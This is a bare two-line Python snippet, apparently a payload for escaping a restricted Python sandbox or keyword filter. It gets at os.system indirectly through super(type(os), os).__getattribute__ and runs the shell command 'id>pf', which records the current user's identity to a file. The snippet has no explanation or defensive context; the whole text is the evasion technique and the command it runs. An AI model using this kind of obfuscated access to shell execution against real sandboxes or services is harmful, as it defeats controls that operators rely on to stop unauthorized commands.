import os
super(type(os), os).__getattribute__("system")("id>pf")
